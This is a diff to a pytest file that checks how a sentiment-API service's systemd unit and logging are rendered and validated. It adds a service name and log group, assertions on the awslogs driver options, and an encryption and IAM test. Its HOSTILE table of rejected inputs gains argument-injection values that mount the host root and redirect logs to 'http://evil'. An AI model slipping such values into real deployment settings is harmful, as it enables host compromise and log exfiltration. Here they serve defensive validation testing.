@@ -267,6 +267,8 @@ RELEASE = {
     "region": "eu-west-1",
     "port": 8000,
     "service_port": 8001,
+    "service": "sentiment-api-dev",
+    "log_group": "sentiment-api-dev/service",
 }
 # Valid (the variables' validation accepts them) but as awkward as validation allows.
 AWKWARD_RELEASES = {
@@ -291,6 +293,8 @@ HOSTILE = {
     "region-semicolon": ("region", "eu-west-1;reboot"),
     "image-systemd-specifier": ("image", "registry.example.com/app:%n"),
     "port-string": ("port", "8000 -v /:/host"),
+    "service-option": ("service", "sentiment-api-dev -v /:/host"),
+    "log_group-log-opt": ("log_group", "sentiment-api-dev/service --log-opt awslogs-endpoint=http://evil"),
 }
 HEREDOC = re.compile(r"^cat > /etc/systemd/system/sentiment\.service <<'UNIT'\n(.*?)^UNIT$", re.S | re.M)
 PROXY_HEREDOC = re.compile(r"^cat > /etc/haproxy/haproxy\.cfg <<'HAPROXY'\n(.*?)^HAPROXY$", re.S | re.M)
@@ -332,6 +336,10 @@ def test_rendered_user_data_is_clean_and_keeps_its_shape(case, tmp_path):
     assert f"-e MODEL_VERSION={values['model_version']} -e MODEL_BUCKET_NAME={values['model_bucket']} " in unit
     assert f"--password-stdin {values['registry']}'\n" in unit
     assert f"-p 127.0.0.1:{values['service_port']}:8000 " in unit
+    # The container's output (and its EMF metric lines, named by EMF_SERVICE) goes to the environment's log group.
+    assert f"--log-driver=awslogs --log-opt awslogs-region={values['region']} " in unit
+    assert f"--log-opt awslogs-group={values['log_group']} " in unit and "awslogs-create-group=false " in unit
+    assert f"-e EMF_SERVICE={values['service']} " in unit
     directives = [ln.split("=", 1)[0] for ln in unit.splitlines() if re.match(r"^[A-Za-z]+=", ln)]
     assert directives == [
         "Description", "After", "Requires", "Restart", "RestartSec",
@@ -460,3 +468,15 @@ def test_server_role_reads_only_models_and_the_champion(suites):
 @with_provider
 def test_registry_lifecycle_never_expires_a_tagged_image(suites):
     assert_runs_pass(suites, "modules/container_registry", "only_untagged_images_expire")
+
+
+@with_provider
+def test_service_logs_are_kept_encrypted_and_written_only_by_the_instance_role(suites):
+    assert_runs_pass(
+        suites,
+        "modules/server",
+        "log_group_is_kept_and_encrypted",
+        "instance_role_only_writes_its_streams",
+        "nonfinite_alarm_names_the_emf_metric_of_each_release",
+        "retention_must_be_a_cloudwatch_period",
+    )
